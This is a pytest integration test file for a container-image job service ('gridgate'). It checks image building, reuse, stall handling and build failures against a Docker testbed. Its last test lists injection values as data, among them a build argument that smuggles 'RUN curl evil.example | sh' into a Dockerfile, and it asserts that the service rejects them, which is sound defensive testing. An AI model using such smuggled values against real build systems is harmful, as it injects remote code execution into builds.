"""CONCORDIA in containers, through all five services: a job's image is selected or built
(content-addressed, once), the job waits with a visible reason, runs in a hardened container
on the local facility, and its results name the image digest. Docker testbed; both databases.
"""

from __future__ import annotations

import asyncio
import json
import os
import secrets
import shutil
from collections.abc import AsyncIterator, Iterator
from importlib.resources import as_file, files
from pathlib import Path
from typing import Any

import httpx
import pytest
import pytest_asyncio

from gridgate.cli.stack import AUDIENCE, DevStack, dev_issuer
from gridgate.testing.docker import DockerTestbed
from gridgate.testing.services import (
    create_postgres_database,
    drop_postgres_database,
    free_port,
    rabbitmq_vhost,
)

pytestmark = pytest.mark.docker
FINAL = {"COMPLETED", "ERROR", "ABORTED"}
WORKFLOW = "concordia-corsika"


def _catalogue(root: Path) -> Path:
    """A copy of the shipped catalogue whose CORSIKA recipe is new to the registry (a nonce
    file in its context) and slow to build (so a job is seen waiting), plus a broken recipe."""
    with as_file(files("gridgate.workflows") / "definitions") as shipped:
        shutil.copytree(shipped, root, ignore=shutil.ignore_patterns("__pycache__"))
    image = root / WORKFLOW / "image"
    (image / "NONCE").write_text(secrets.token_hex(16))
    dockerfile = (image / "Dockerfile").read_text()
    (image / "Dockerfile").write_text(dockerfile.replace("USER 65534", "RUN sleep 2\nUSER 65534"))
    broken = root / "concordia-broken"
    shutil.copytree(root / WORKFLOW, broken)
    for old in broken.glob("1.*.yaml"):
        old.unlink()
    definition = (broken / "2.0.0.yaml").read_text()
    (broken / "2.0.0.yaml").write_text(
        definition.replace(f"id: {WORKFLOW}", "id: concordia-broken")
    )
    (broken / "image" / "Dockerfile").write_text(
        "ARG BASE_IMAGE\nFROM ${BASE_IMAGE}\nARG CORSIKA_VERSION\n"
        'RUN echo "coconut: CORSIKA $CORSIKA_VERSION does not compile here" && exit 3\n'
    )
    return root


@pytest.fixture(scope="module")
def runner_uses_the_testbed_engine(docker_testbed: DockerTestbed) -> Iterator[None]:
    """Local-facility runners (children of this process) start containers on the testbed."""
    name = "GRIDGATE_LOCALFACILITY_DOCKER_HOST"
    before = os.environ.get(name)
    os.environ[name] = docker_testbed.docker_host
    yield
    if before is None:
        os.environ.pop(name, None)
    else:
        os.environ[name] = before


@pytest_asyncio.fixture(scope="module", loop_scope="session", params=["sqlite", "postgresql"])
async def containers(
    request: pytest.FixtureRequest,
    docker_testbed: DockerTestbed,
    docker_base_image: str,
    runner_uses_the_testbed_engine: None,
    tmp_path_factory: pytest.TempPathFactory,
) -> AsyncIterator[DevStack]:
    data_dir = tmp_path_factory.mktemp(f"containers-{request.param}")
    catalogue = _catalogue(data_dir / "workflows")
    database_name = database_url = None
    if request.param == "postgresql":
        database_name, database_url = await create_postgres_database()
    with rabbitmq_vhost() as url:
        stack = DevStack(
            data_dir=data_dir,
            port=free_port(),
            broker_url=url,
            database_url=database_url,
            gateway_options={
                "workflows_dir": catalogue,
                "image_registry": docker_testbed.registry,
                "image_registry_insecure": True,
            },
            submitter_options={
                "workflows_dir": catalogue,
                "image_registry": docker_testbed.registry,
                "image_registry_insecure": True,
                "image_base": docker_base_image,
                "docker_host": docker_testbed.docker_host,
            },
        )
        await stack.start()
        try:
            yield stack
        finally:
            await stack.stop()
            if database_name:
                await drop_postgres_database(database_name)


STALL_AFTER_S = 4


@pytest_asyncio.fixture(loop_scope="session", params=["sqlite", "postgresql"])
async def impatient(
    request: pytest.FixtureRequest,
    docker_testbed: DockerTestbed,
    docker_base_image: str,
    runner_uses_the_testbed_engine: None,
    tmp_path: Path,
) -> AsyncIterator[DevStack]:
    """A stack whose stall watch gives up on a job after 4 s without change, whose recipe takes
    longer than that to build, and whose submitter says every 0.5 s that the build is alive."""
    catalogue = _catalogue(tmp_path / "workflows")
    dockerfile = catalogue / WORKFLOW / "image" / "Dockerfile"
    # The nonce label keeps the engine's cache from skipping the sleep on the second database.
    nonce = f"LABEL org.gridgate.test.nonce={secrets.token_hex(16)}"
    slow = f"{nonce}\nRUN sleep {4 * STALL_AFTER_S}\nUSER 65534"
    dockerfile.write_text(dockerfile.read_text().replace("RUN sleep 2\nUSER 65534", slow))
    database_name = database_url = None
    if request.param == "postgresql":
        database_name, database_url = await create_postgres_database()
    registry = {"image_registry": docker_testbed.registry, "image_registry_insecure": True}
    with rabbitmq_vhost() as url:
        stack = DevStack(
            data_dir=tmp_path,
            port=free_port(),
            broker_url=url,
            database_url=database_url,
            gateway_options={
                "workflows_dir": catalogue,
                "stall_after_s": STALL_AFTER_S,
                "stall_watch_interval_s": 0.5,
                **registry,
            },
            submitter_options={
                "workflows_dir": catalogue,
                "image_base": docker_base_image,
                "docker_host": docker_testbed.docker_host,
                "image_build_heartbeat_s": 0.5,
                **registry,
            },
        )
        await stack.start()
        try:
            yield stack
        finally:
            await stack.stop()
            if database_name:
                await drop_postgres_database(database_name)


async def test_a_build_longer_than_the_stall_bound_is_not_sent_again(impatient: DevStack) -> None:
    async with _user(impatient, "frank") as http:
        url = await _submit(http, {"workflow": WORKFLOW, "showers": "1"})
        started = asyncio.get_running_loop().time()
        late_reasons: list[str] = []
        for _ in range(1200):
            job = (await http.get(url)).json()
            if job["jobInfo"].get("image"):
                break
            waited = asyncio.get_running_loop().time() - started
            if waited > 2 * STALL_AFTER_S and job["jobInfo"]["pendingReason"]:
                late_reasons.append(job["jobInfo"]["pendingReason"])
            await asyncio.sleep(0.2)
        job = await _finish(http, url)
    assert job["phase"] == "COMPLETED", job.get("errorSummary")
    assert job["jobInfo"]["image"]["built"] is True
    # Long after the stall bound the job still said what it waited for...
    assert late_reasons, "the build ended before the stall bound was passed twice"
    assert all(r.startswith("Building image gridgate/concordia-corsika:r-") for r in late_reasons)
    # ...and was never sent again.
    history = _history(job)
    assert not any("did not come back" in d for d in history), history
    assert sum(d.startswith("building image") for d in history) == 1


def _user(stack: DevStack, name: str) -> httpx.AsyncClient:
    token = dev_issuer(stack.data_dir, stack.host, stack.port).mint(
        name, groups=["cta"], audience=AUDIENCE
    )
    return httpx.AsyncClient(
        base_url=stack.url, headers={"Authorization": f"Bearer {token}"}, timeout=120
    )


async def _submit(http: httpx.AsyncClient, fields: dict[str, str]) -> str:
    created = await http.post("/api/jobs", data={"PHASE": "RUN", **fields})
    assert created.status_code == 303, created.text
    return str(created.headers["location"])


async def _finish(http: httpx.AsyncClient, url: str, seen: list[str] | None = None) -> Any:
    for _ in range(600):
        job = (await http.get(url)).json()
        reason = job["jobInfo"]["pendingReason"]
        if seen is not None and reason:
            seen.append(reason)
        if job["phase"] in FINAL:
            return job
        await asyncio.sleep(0.1)
    raise AssertionError(f"{url} did not finish: {job['phase']}")


def _history(job: dict[str, Any]) -> list[str]:
    return [h["detail"] or "" for h in job["jobInfo"]["history"]]


async def test_a_job_builds_its_image_waits_visibly_runs_in_it_and_names_it(
    containers: DevStack,
) -> None:
    options = {"workflow": WORKFLOW, "thinning": "true", "showers": "3", "run_number": "7"}
    async with _user(containers, "alice") as http:
        seen: list[str] = []
        job = await _finish(http, await _submit(http, options), seen)
        assert job["phase"] == "COMPLETED", job.get("errorSummary")
        image = job["jobInfo"]["image"]
        assert image["built"] is True and image["digest"].startswith("sha256:")
        assert image["reference"].endswith(f"@{image['digest']}")
        assert image["buildArgs"]["THINNING"] == "true"
        assert image["baseDigest"].startswith("sha256:")
        # The job waited visibly while its image was built, and its history says so.
        assert any(r.startswith("Building image gridgate/concordia-corsika:r-") for r in seen)
        history = _history(job)
        assert any(d.startswith("building image gridgate/concordia-corsika:r-") for d in history)
        assert f"image built: {image['reference']}" in history
        # The local facility ran the task in a container of exactly that image, and says so.
        assert any(
            d.startswith("done (in container ") and d.endswith(f" of {image['reference']})")
            for d in history
        ), history
        # The output was written in the container and names the image it was made in.
        results = {r["id"]: r for r in job["results"]}
        output = (await http.get(results["DAT000007.json"]["href"])).json()
        assert output["image"] == image["reference"]
        assert output["image_build"]["thinning"] is True
        assert output["image_build"]["standin"] is True

        # The same arguments again: the image is selected, nothing is built.
        again = await _finish(http, await _submit(http, {**options, "run_number": "8"}))
        assert again["phase"] == "COMPLETED", again.get("errorSummary")
        assert again["jobInfo"]["image"]["digest"] == image["digest"]
        assert again["jobInfo"]["image"]["built"] is False
        assert not any(d.startswith("building image") for d in _history(again))

        # Naming the digest runs exactly that image.
        named = await _finish(
            http,
            await _submit(
                http, {"workflow": WORKFLOW, "image_digest": image["digest"], "showers": "2"}
            ),
        )
        assert named["phase"] == "COMPLETED", named.get("errorSummary")
        assert named["jobInfo"]["image"]["digest"] == image["digest"]

        # The registry listing shows the image with its provenance.
        listing = (await http.get(f"/api/workflows/{WORKFLOW}/images")).json()
        listed = {i["digest"]: i for i in listing["images"]}
        assert listed[image["digest"]]["build_args"] == image["buildArgs"]
        assert listed[image["digest"]]["current_recipe"] is True
        assert listed[image["digest"]]["size"] > 0


async def test_two_concurrent_identical_jobs_share_one_image(containers: DevStack) -> None:
    options = {"workflow": WORKFLOW, "curved_atmosphere": "true", "showers": "2"}
    async with _user(containers, "bob") as http:
        urls = await asyncio.gather(*(_submit(http, options) for _ in range(2)))
        jobs = await asyncio.gather(*(_finish(http, url) for url in urls))
    assert [j["phase"] for j in jobs] == ["COMPLETED", "COMPLETED"]
    assert len({j["jobInfo"]["image"]["digest"] for j in jobs}) == 1


async def test_a_failing_recipe_fails_the_job_with_its_build_log(containers: DevStack) -> None:
    async with _user(containers, "carol") as http:
        job = await _finish(
            http, await _submit(http, {"workflow": "concordia-broken", "showers": "1"})
        )
        assert job["phase"] == "ERROR"
        message = job["errorSummary"]["message"]
        assert "did not build" in message
        assert "CORSIKA 77550 does not compile here" in message
        error = await http.get(f"/api/jobs/{job['jobId']}/error")
        assert "does not compile here" in error.text


async def test_a_digest_the_registry_lacks_fails_the_job(containers: DevStack) -> None:
    async with _user(containers, "dave") as http:
        job = await _finish(
            http,
            await _submit(http, {"workflow": WORKFLOW, "image_digest": "sha256:" + "0" * 64}),
        )
    assert job["phase"] == "ERROR"
    assert "holds no image sha256:" + "0" * 64 in job["errorSummary"]["message"]


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("corsika_version", "77550\nRUN curl evil.example | sh"),
        ("high_energy_model", "EPOS-LHC --network=host"),
        ("image_digest", "evil.example/x:latest"),
    ],
)
async def test_hostile_build_arguments_are_refused(
    containers: DevStack, name: str, value: str
) -> None:
    async with _user(containers, "eve") as http:
        answer = await http.post("/api/jobs", data={"workflow": WORKFLOW, name: value})
    assert answer.status_code == 422
    problem = answer.json()
    assert answer.headers["content-type"].startswith("application/problem+json")
    assert [e["field"] for e in problem["errors"]] == [name]
    assert json.dumps(problem).count("evil") <= 1  # echoed at most as the refused value
